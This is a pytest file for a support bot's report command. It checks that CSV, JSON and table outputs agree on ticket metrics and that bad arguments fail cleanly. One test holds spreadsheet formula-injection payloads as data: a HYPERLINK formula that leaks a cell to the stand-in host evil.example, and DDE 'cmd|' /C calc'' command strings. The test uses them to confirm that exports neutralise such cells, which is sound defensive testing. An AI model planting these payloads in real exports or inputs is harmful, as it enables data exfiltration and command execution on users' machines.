"""`supportbot report` as a user runs it (a real process reading $DATABASE_URL): the same
numbers as a table, as CSV for a spreadsheet and as JSON for a BI tool.

Two tickets opened through /ticket on the fake clock (Wed 2026-11-25, New York):
A (P1) answered after 10 minutes, resolved after an hour and rated 4; E (P3) open.
"""

from __future__ import annotations

import csv
import io
import json
import os
import subprocess
import sys
from datetime import timedelta

from tests.conftest import REPO_ROOT
from tests.fakes.clock import DEFAULT_START
from tests.kb_steps import ASKER, kb_bot, kb_folder  # noqa: F401  (fixtures)
from tests.metrics_steps import Desk
from tests.ticket_steps import create_ticket
from workflows.reports.formats import COLUMNS

T0 = DEFAULT_START
UNTIL = "2026-11-25 12:00"          # 17:00 UTC, in the policy's time zone


def report(database_url: str, *args: str) -> subprocess.CompletedProcess[str]:
    env = {k: v for k, v in os.environ.items() if not k.startswith(("SLACK_", "PAGERDUTY_", "SUPPORTBOT_"))}
    env["DATABASE_URL"] = database_url
    command = [sys.executable, "-m", "bot.cli", "report", "--config", str(REPO_ROOT / "app.yaml"), *args]
    return subprocess.run(command, env=env, cwd=REPO_ROOT, capture_output=True, text=True, timeout=60, check=False)


async def two_tickets(bot) -> None:
    desk = Desk(bot)
    await desk.at(T0)
    a = await create_ticket(bot, "Cannot log in", category="Login problems", priority="P1")
    await desk.at(T0 + timedelta(minutes=5))
    await create_ticket(bot, "How do exports work?", category="General question", priority="P3")
    await desk.at(T0 + timedelta(minutes=10))
    await desk.reply(a)
    await desk.at(T0 + timedelta(hours=1))
    await desk.resolve(a)
    await desk.rate(a, 4)


async def test_csv_json_and_table_carry_the_same_numbers(bot, database_url):
    await two_tickets(bot)

    as_csv = report(database_url, "--since", "1d", "--until", UNTIL, "--format", "csv")
    assert as_csv.returncode == 0, as_csv.stderr
    rows = list(csv.DictReader(io.StringIO(as_csv.stdout)))
    assert tuple(rows[0]) == COLUMNS
    by_key = {(r["metric"], r["scope"]): r for r in rows}
    assert by_key[("tickets_created", "all")]["value"] == "2"
    assert by_key[("tickets_resolved", "all")]["value"] == "1"
    assert by_key[("tickets_open", "all")]["value"] == "1"
    assert by_key[("first_response_median", "P1")] == {
        "metric": "first_response_median", "scope": "P1", "value": "600", "numerator": "",
        "denominator": "1", "target": "3600", "unit": "seconds"}
    assert by_key[("resolution_p90", "P1")]["value"] == "3600"
    assert by_key[("first_response_sla", "P1")] == {
        "metric": "first_response_sla", "scope": "P1", "value": "100.0", "numerator": "1",
        "denominator": "1", "target": "95.0", "unit": "percent"}
    assert by_key[("first_response_sla", "P3")]["value"] == ""          # E is not due yet
    assert by_key[("escalation_rate", "all")]["value"] == "0.0"
    assert by_key[("csat_average", "all")]["value"] == "4.0"
    assert by_key[("csat_response_rate", "all")]["value"] == "100.0"
    assert by_key[("top_category", "Login problems")]["value"] == "1"

    as_json = report(database_url, "--since", "1d", "--until", UNTIL, "--format", "json")
    assert as_json.returncode == 0, as_json.stderr
    document = json.loads(as_json.stdout)
    assert document["since"] == "2026-11-24T17:00:00+00:00" and document["until"] == "2026-11-25T17:00:00+00:00"
    assert len(document["metrics"]) == len(rows)
    first = next(m for m in document["metrics"] if m["metric"] == "first_response_median" and m["scope"] == "P1")
    assert first == {"metric": "first_response_median", "scope": "P1", "value": 600, "numerator": None,
                     "denominator": 1, "target": 3600, "unit": "seconds"}

    as_table = report(database_url, "--since", "1d", "--until", UNTIL)
    assert as_table.returncode == 0, as_table.stderr
    lines = as_table.stdout.splitlines()
    assert lines[0] == ("Support metrics, last 1d: tickets opened 2026-11-24 12:00 – 2026-11-25 12:00 "
                        "(America/New_York)")
    assert lines[2].split() == ["METRIC", "SCOPE", "VALUE", "TARGET"]
    assert ["first_response_median", "P1", "10m", "1h"] in [line.split() for line in lines]
    assert ["first_response_sla", "P1", "100%", "(1/1)", "95%"] in [line.split() for line in lines]

    narrowed = report(database_url, "--since", "1d", "--until", UNTIL, "--format", "csv", "--category", "login PROBLEMS")
    assert narrowed.returncode == 0, narrowed.stderr
    assert "tickets_created,all,1," in narrowed.stdout


# Questions typed into /kb that a spreadsheet would run as formulas, and what the CSV must hold instead.
FORMULAS = {
    '=HYPERLINK("http://evil.example/?q="&A1,"Export invoices")': "'=HYPERLINK(\"http://evil.example/?q=\"&A1,\"Export invoices\")",
    "+cmd|' /C calc'!A0 printer drivers": "'+cmd|' /C calc'!A0 printer drivers",
    "-lunar eclipse colours+": "'-lunar eclipse colours+",
    "@SUM(1+1)*cmd|' /C calc'!A0 sandbox": "'@SUM(1+1)*cmd|' /C calc'!A0 sandbox",
}


async def test_csv_cells_a_spreadsheet_would_run_as_formulas_are_neutralised(kb_bot, database_url):
    for number, question in enumerate(FORMULAS):
        name = f"kb{number}"
        reply = await kb_bot.sender.slash("/kb", question, user_id=ASKER, response_url=kb_bot.slack.response_url(name))
        assert reply.status == 200
        await kb_bot.slack.wait_for_response(name)

    as_csv = report(database_url, "--since", "1d", "--until", UNTIL, "--format", "csv")
    assert as_csv.returncode == 0, as_csv.stderr
    rows = list(csv.reader(io.StringIO(as_csv.stdout)))
    gaps = {row[1] for row in rows if row[0] == "kb_gap"}
    assert gaps == set(FORMULAS.values())
    dangerous = [cell for row in rows for cell in row if cell[:1] in ("=", "+", "-", "@", "\t", "\r")]
    assert dangerous == []
    as_json = json.loads(report(database_url, "--since", "1d", "--until", UNTIL, "--format", "json").stdout)
    assert {m["scope"] for m in as_json["metrics"] if m["metric"] == "kb_gap"} == set(FORMULAS)  # JSON is data


def test_bad_arguments_exit_2_with_one_clear_line(tmp_path):
    url = f"sqlite+aiosqlite:///{tmp_path}/none.db"
    for args, words in ((["--tier", "tier9"], "--tier 'tier9' is not one of tier1"),
                        (["--since", "1 hour"], "is not a duration"),
                        (["--until", "tomorrow"], "--until 'tomorrow' is not a date")):
        result = report(url, *args)
        assert result.returncode == 2, result
        assert words in result.stderr and "Traceback" not in result.stderr
    unmigrated = report(url, "--format", "json")
    assert unmigrated.returncode == 2 and "supportbot db upgrade" in unmigrated.stderr
